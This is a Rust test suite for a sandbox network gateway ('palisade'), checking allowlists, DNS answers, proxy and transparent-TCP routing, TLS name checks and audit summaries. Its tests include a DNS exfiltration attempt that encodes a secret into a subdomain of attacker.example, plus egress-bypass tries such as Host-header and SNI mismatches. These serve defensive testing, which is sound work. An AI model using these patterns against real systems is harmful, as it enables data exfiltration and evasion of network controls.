//! THREATS group C through the gateway: upstream servers the test starts on the host's
//! loopback, reachable only through `[network] hosts` mappings and allow rules. Outcomes are
//! checked on the host side: which listener saw a connection.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::util::*;

/// An HTTP server on the host's loopback that counts the connections that brought it bytes.
struct Upstream {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Upstream {
    fn start() -> Upstream {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let h = hits.clone();
        std::thread::spawn(move || {
            for conn in l.incoming().flatten().take(100) {
                let mut c = conn;
                let mut buf = [0u8; 4096];
                // Counted once bytes arrive: where raw TCP may pass, the gateway connects
                // before the client speaks (a server may speak first), and that connection
                // carries nothing unless the client's opening is allowed.
                if !matches!(c.read(&mut buf), Ok(n) if n > 0) {
                    continue;
                }
                h.fetch_add(1, Ordering::SeqCst);
                let _ = c.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\nConnection: close\r\n\r\nhello from upstream\n",
                );
            }
        });
        Upstream { port, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

fn policy_file(s: &Sandbox, body: &str) -> String {
    let p = s.path("net-policy.toml");
    std::fs::write(&p, body).unwrap();
    p.to_string_lossy().into_owned()
}

fn curl(s: &Sandbox, policy: &str, args: &str) -> (String, String) {
    let o = s.run(
        &["--policy", policy],
        &["/bin/sh", "-c", &format!("curl -sS -i --max-time 5 {args}; rc=$?; echo; echo exit=$rc")],
    );
    (stdout(&o), stderr(&o))
}

#[test]
fn http_proxy_connect_and_socks5_reach_an_allowed_host() {
    let s = Sandbox::new("c-gateway-ok");
    let up = Upstream::start();
    let p = policy_file(
        &s,
        &format!(
            "[network]\nmode = \"allowlist\"\nallow = [\"upstream.test:{0}\"]\nhosts = {{ \"upstream.test\" = \"127.0.0.1\" }}\n",
            up.port
        ),
    );
    let url = format!("http://upstream.test:{}/", up.port);
    for (how, args) in [
        ("plain HTTP", url.clone()),
        ("CONNECT", format!("-p {url}")),
        ("SOCKS5", format!("--socks5-hostname 127.0.0.1:1080 {url}")),
    ] {
        let (out, err) = curl(&s, &p, &args);
        assert!(out.contains("hello from upstream") && out.contains("exit=0"), "{how}: {out}{err}");
    }
    assert_eq!(up.hits(), 3);
}

#[test]
fn refused_targets_never_reach_the_host() {
    let s = Sandbox::new("c-gateway-deny");
    let (up, other) = (Upstream::start(), Upstream::start());
    let p = policy_file(
        &s,
        &format!(
            "[network]\nmode = \"allowlist\"\nallow = [\"upstream.test:{0}\", \"other.test:{1}\"]\ndeny = [\"other.test\"]\nhosts = {{ \"upstream.test\" = \"127.0.0.1\", \"rebind.test\" = \"127.0.0.1\" }}\n",
            up.port, other.port
        ),
    );
    let attempts = [
        format!("http://unlisted.test:{}/", up.port),    // not on the list
        format!("http://upstream.test:{}/", other.port), // allowed host, other port
        format!("--noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{}/", up.port), // IP literal, not listed
        format!("http://other.test:{}/", other.port),    // deny beats allow
        format!("--noproxy '' -x http://127.0.0.1:3128 -p http://127.0.0.1:{}/", other.port), // CONNECT to the host's loopback
        format!("-H 'Host: unlisted.test' http://upstream.test:{}/", up.port),                // Host header mismatch
        format!("--socks5-hostname 127.0.0.1:1080 http://unlisted.test:{}/", up.port),
        format!("--socks5 127.0.0.1:1080 http://127.0.0.1:{}/", other.port), // SOCKS by address
        format!("--noproxy '*' http://127.0.0.1:{}/", up.port),              // straight to the host
    ];
    for a in &attempts {
        let (out, err) = curl(&s, &p, a);
        assert!(!out.contains("hello from upstream"), "{a} reached the upstream: {out}{err}");
        if !a.contains("socks") && !a.contains("noproxy") {
            assert!(
                out.contains("403 Forbidden") && out.to_ascii_lowercase().contains("x-palisade-denied:"),
                "{a}: {out}{err}"
            );
        }
    }
    assert_eq!((up.hits(), other.hits()), (0, 0), "a refused connection reached a host listener");
}

#[test]
fn no_network_by_default() {
    let s = Sandbox::new("c-gateway-none");
    let up = Upstream::start();
    let o = s.sh(&format!(
        "env | grep -i _proxy; curl -sS --max-time 5 -x http://127.0.0.1:3128 http://upstream.test:{0}/; curl -sS --max-time 5 http://127.0.0.1:{0}/; echo done",
        up.port
    ));
    let out = stdout(&o);
    assert!(out.contains("done") && !out.contains("hello"), "{out}");
    assert!(!out.to_ascii_lowercase().contains("_proxy="), "proxy variables without a network: {out}");
    assert_eq!(up.hits(), 0);
}

fn allow_upstream(s: &Sandbox, up: &Upstream) -> String {
    policy_file(
        s,
        &format!(
            "[network]\nmode = \"allowlist\"\nallow = [\"upstream.test:{0}\"]\nhosts = {{ \"upstream.test\" = \"127.0.0.1\" }}\n",
            up.port
        ),
    )
}

#[test]
fn dns_stub_answers_allowed_names_only_and_nothing_leaves() {
    let s = Sandbox::new("c03-dns");
    let up = Upstream::start();
    let p = allow_upstream(&s, &up);
    let exfil = format!("{}.attacker.example", "6a6f686e2073656372657420".repeat(3));
    let o = s.run(
        &["--policy", &p],
        &["/bin/sh", "-c", &format!("cat /etc/resolv.conf; getent hosts upstream.test; getent hosts unlisted.test; echo u=$?; getent hosts {exfil}; echo x=$?")],
    );
    let out = stdout(&o);
    assert!(out.contains("nameserver 127.0.0.53"), "{out}");
    assert!(out.lines().any(|l| l.starts_with("127.77.") && l.ends_with("upstream.test")), "{out}");
    assert!(out.contains("u=2") && out.contains("x=2"), "denied names resolved: {out}");
}

#[test]
fn transparent_tcp_for_programs_that_ignore_proxies() {
    let s = Sandbox::new("c01-transparent");
    let up = Upstream::start();
    let p = allow_upstream(&s, &up);
    let (out, err) = curl(&s, &p, &format!("--noproxy '*' http://upstream.test:{}/", up.port));
    assert!(out.contains("hello from upstream"), "{out}{err}");
    assert_eq!(up.hits(), 1);
    if !std::path::Path::new("/usr/bin/python3").exists() {
        return;
    }
    // A raw socket, no proxy variables honoured.
    let py = format!(
        "import socket\nc = socket.create_connection(('upstream.test', {0}), timeout=5)\nc.sendall(b'GET / HTTP/1.1\\r\\nHost: upstream.test\\r\\n\\r\\n')\nprint(c.recv(200).decode().splitlines()[-1])",
        up.port
    );
    let o = s.run(&["--policy", &p], &["/usr/bin/python3", "-c", &py]);
    assert_eq!(stdout(&o).trim(), "hello from upstream", "{}", stderr(&o));
    assert_eq!(up.hits(), 2);
}

#[test]
fn transparent_tcp_refuses_a_mismatched_name() {
    let s = Sandbox::new("c07-fronting");
    let up = Upstream::start();
    let p = allow_upstream(&s, &up);
    let (out, _) = curl(&s, &p, &format!("--noproxy '*' -H 'Host: unlisted.test' http://upstream.test:{}/", up.port));
    assert!(out.contains("403 Forbidden") && !out.contains("hello"), "{out}");
    assert_eq!(up.hits(), 0, "a mismatched Host reached the upstream");
    if !std::path::Path::new("/usr/bin/python3").exists() {
        return;
    }
    // TLS: the ClientHello's server name must be the name the address was given for.
    let tls = |sni: &str| {
        format!(
            "import socket, ssl\nc = socket.create_connection(('upstream.test', {0}), timeout=5)\nctx = ssl.create_default_context()\ntry:\n    ctx.wrap_socket(c, server_hostname='{sni}')\nexcept Exception as e:\n    print('failed', type(e).__name__)",
            up.port
        )
    };
    let o = s.run(&["--policy", &p], &["/usr/bin/python3", "-c", &tls("unlisted.test")]);
    assert!(stdout(&o).contains("failed"), "{}{}", stdout(&o), stderr(&o));
    assert_eq!(up.hits(), 0, "a mismatched SNI reached the upstream");
    // The matching name is forwarded (the plain-HTTP upstream then fails the handshake).
    let o = s.run(&["--policy", &p], &["/usr/bin/python3", "-c", &tls("upstream.test")]);
    assert!(stdout(&o).contains("failed"), "{}", stdout(&o));
    assert_eq!(up.hits(), 1, "a matching SNI was not forwarded");
}

/// A TLS upstream with a throwaway certificate for `tls.test` (openssl s_server), or `None`
/// when openssl is not installed.
fn tls_upstream(s: &Sandbox) -> Option<(u16, String, std::process::Child)> {
    let dir = s.path("tls");
    std::fs::create_dir_all(&dir).unwrap();
    let (cert, key) = (dir.join("cert.pem"), dir.join("key.pem"));
    let made = std::process::Command::new("openssl")
        .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "1"])
        .args(["-subj", "/CN=tls.test", "-addext", "subjectAltName=DNS:tls.test"])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .ok()?;
    if !made.status.success() {
        return None;
    }
    let port = free_port();
    let child = std::process::Command::new("timeout")
        .args(["60", "openssl", "s_server", "-quiet", "-www", "-accept"])
        .arg(format!("127.0.0.1:{port}"))
        .arg("-cert")
        .arg(&cert)
        .arg("-key")
        .arg(&key)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .ok()?;
    for _ in 0..100 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    Some((port, cert.to_string_lossy().into_owned(), child))
}

#[test]
fn tls_with_a_test_certificate_through_connect_and_transparent_tcp() {
    let s = Sandbox::new("c-tls");
    let Some((port, cert, mut server)) = tls_upstream(&s) else {
        eprintln!("skipped: no openssl");
        return;
    };
    let p = policy_file(
        &s,
        &format!(
            "[network]\nmode = \"allowlist\"\nallow = [\"tls.test:{port}\"]\nhosts = {{ \"tls.test\" = \"127.0.0.1\" }}\n"
        ),
    );
    let cert_dir = std::path::Path::new(&cert).parent().unwrap().to_str().unwrap().to_owned();
    for how in ["", "--noproxy '*'"] {
        let o = s.run(
            &["--policy", &p, "--allow-read", &cert_dir],
            &[
                "/bin/sh",
                "-c",
                &format!("curl -sS --max-time 5 --cacert {cert} {how} https://tls.test:{port}/ | head -c 200"),
            ],
        );
        assert!(
            stdout(&o).contains("<HTML>") || stdout(&o).contains("s_server"),
            "{how}: {}{}",
            stdout(&o),
            stderr(&o)
        );
    }
    // SIGTERM, which `timeout` passes on to openssl (SIGKILL would orphan the server).
    // SAFETY: signalling our own child.
    unsafe { libc::kill(server.id() as libc::pid_t, libc::SIGTERM) };
    let _ = server.wait();
}

#[test]
fn raw_tcp_where_the_server_speaks_first() {
    // Like SSH: the client waits for the server's banner, so the gateway must not wait for
    // the client's first bytes forever.
    let s = Sandbox::new("c-server-first");
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut c in l.incoming().flatten().take(5) {
            let _ = c.write_all(b"SSH-2.0-palisade-test\r\n");
            let mut buf = [0u8; 64];
            if let Ok(n) = c.read(&mut buf) {
                let _ = c.write_all(&buf[..n]);
            }
        }
    });
    let p = policy_file(
        &s,
        &format!(
            "[network]\nmode = \"allowlist\"\nallow = [\"banner.test:{port}\"]\nhosts = {{ \"banner.test\" = \"127.0.0.1\" }}\n"
        ),
    );
    if !std::path::Path::new("/usr/bin/python3").exists() {
        return;
    }
    let py = format!(
        "import socket\nc = socket.create_connection(('banner.test', {port}), timeout=5)\nprint(c.recv(100).decode().strip())\nc.sendall(b'echo me')\nprint(c.recv(100).decode())"
    );
    let o = s.run(&["--policy", &p], &["/usr/bin/python3", "-c", &py]);
    assert_eq!(stdout(&o), "SSH-2.0-palisade-test\necho me\n", "{}", stderr(&o));
}

#[test]
fn no_inbound_servers_inside_are_unreachable_from_the_host() {
    let s = Sandbox::new("c-no-inbound");
    if !std::path::Path::new("/usr/bin/python3").exists() {
        return;
    }
    // A free port on the host, which the sandbox then listens on inside.
    let port = free_port();
    let py = format!(
        "import socket, time\ns = socket.socket(); s.bind(('0.0.0.0', {port})); s.listen(); s.settimeout(2)\nprint('listening', flush=True)\ntry:\n    s.accept(); print('accepted')\nexcept socket.timeout:\n    print('nobody')"
    );
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(["run", "--allow-net", "example.test:443", "--", "/usr/bin/python3", "-c", &py])
        .current_dir(s.ws())
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", s.home())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut first = [0u8; 10];
    let _ = out.read_exact(&mut first);
    for addr in [format!("127.0.0.1:{port}"), format!("[::1]:{port}")] {
        assert!(std::net::TcpStream::connect(&addr).is_err(), "the host reached a server inside the sandbox at {addr}");
    }
    let mut rest = String::new();
    let _ = out.read_to_string(&mut rest);
    let _ = child.wait();
    assert_eq!(rest.trim(), "nobody", "the sandboxed server saw a connection");
}

#[test]
fn refusals_are_summed_up_after_the_run_unless_quiet() {
    let s = Sandbox::new("c-summary");
    let p = policy_file(&s, "[network]\nmode = \"allowlist\"\nallow = [\"allowed.test:443\"]\n");
    let cmd = "curl -sS --max-time 5 http://unlisted.test/ >/dev/null 2>&1; curl -sS --max-time 5 http://unlisted.test/ >/dev/null 2>&1; true";
    let o = s.palisade(&["run", "--policy", &p, "--", "sh", "-c", cmd]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(err.contains("refused during the run: ") && err.contains("unlisted.test:80 ×2"), "{err}");
    assert!(err.contains("each is in the audit log"), "{err}");
    let o = s.palisade(&["run", "--quiet", "--policy", &p, "--", "sh", "-c", cmd]);
    assert!(!stderr(&o).contains("refused during the run"), "{}", stderr(&o));
    // Nothing refused, nothing said.
    let o = s.palisade(&["run", "--policy", &p, "--", "true"]);
    assert!(!stderr(&o).contains("refused during the run"), "{}", stderr(&o));
}

#[test]
fn with_the_network_off_a_name_fails_at_once_as_unknown_not_as_temporary() {
    // EAI_AGAIN ("temporary failure") makes npm, pip and others retry for a minute;
    // EAI_NONAME fails at once. The sandbox's own host name still resolves.
    let s = Sandbox::new("c-dns-off");
    let script = "import socket\nfor n in ['registry.npmjs.org', 'palisade', 'localhost']:\n    try: print(n, socket.getaddrinfo(n, 443)[0][4][0])\n    except socket.gaierror as e: print(n, 'error', e.errno)\n";
    let o = s.run(&[], &["python3", "-c", script]);
    let out = stdout(&o);
    assert!(out.contains(&format!("registry.npmjs.org error {}", -2)), "{out}{}", stderr(&o));
    assert!(out.contains("palisade 127.0.1.1") && out.contains("localhost 127.0.0.1"), "{out}");
}

#[test]
fn an_allowed_name_that_does_not_resolve_is_a_failure_not_a_refusal() {
    // No denied_connections rule may fire, and no refusal is summed up, for an upstream
    // that does not exist: that is no sign of a hijacked agent.
    let s = Sandbox::new("c-unresolvable");
    let audit = s.path("unresolvable.jsonl");
    let o = s.palisade(&[
        "run",
        "--audit",
        &audit.display().to_string(),
        "--allow-net",
        "nowhere.invalid",
        "--",
        "sh",
        "-c",
        "curl -sS --max-time 10 https://nowhere.invalid/ >/dev/null 2>&1; curl -sS --max-time 10 http://nowhere.invalid/ >/dev/null 2>&1; true",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(!stderr(&o).contains("refused during the run"), "{}", stderr(&o));
    let log = std::fs::read_to_string(&audit).unwrap();
    let conn = log.lines().find(|l| l.contains("\"kind\":\"connection\"")).expect("a connection record");
    assert!(conn.contains("\"allowed\":true") && conn.contains("\"error\":\"cannot resolve nowhere.invalid"), "{conn}");
    // Plain HTTP through the proxy: the request is allowed, and the origin failed (502).
    let req = log.lines().find(|l| l.contains("\"kind\":\"request\"")).expect("a request record");
    assert!(req.contains("\"allowed\":true") && req.contains("\"status\":502"), "{req}");
}

#[test]
fn expected_refusals_are_recorded_quietly_and_fire_no_rule() {
    let s = Sandbox::new("c-quiet");
    let audit = s.path("quiet.jsonl");
    let p = policy_file(
        &s,
        "[network]\nmode = \"allowlist\"\nallow = [\"allowed.test:443\"]\nquiet = [\"telemetry.test\"]\n\n[[monitor.rules]]\nwhen = \"denied_connections > 1 in 60s\"\naction = \"kill\"\n",
    );
    let quiet = "for i in 1 2 3; do curl -sS --max-time 5 http://telemetry.test/ >/dev/null 2>&1; done; echo survived";
    let o = s.palisade(&["run", "--audit", &audit.display().to_string(), "--policy", &p, "--", "sh", "-c", quiet]);
    assert_eq!(stdout(&o), "survived\n", "{}", stderr(&o));
    assert!(!stderr(&o).contains("ALERT") && !stderr(&o).contains("refused during the run"), "{}", stderr(&o));
    let log = std::fs::read_to_string(&audit).unwrap();
    assert!(
        log.lines()
            .any(|l| l.contains("telemetry.test") && l.contains("\"allowed\":false") && l.contains("\"quiet\":true")),
        "{log}"
    );
    // The same refusals of a host the policy does not expect fire the rule.
    let loud = "for i in 1 2 3; do curl -sS --max-time 5 http://unexpected.test/ >/dev/null 2>&1; done; echo survived";
    let o = s.palisade(&["run", "--policy", &p, "--", "sh", "-c", loud]);
    assert_eq!(o.status.code(), Some(137), "{}{}", stdout(&o), stderr(&o));
    // A project may not silence refusals.
    s.write("ws/.palisade.toml", "[network]\nquiet = [\"evil.test\"]\n");
    let o = s.palisade(&["run", "--", "true"]);
    assert_eq!(o.status.code(), Some(125));
    assert!(stderr(&o).contains("may not silence refusals"), "{}", stderr(&o));
}
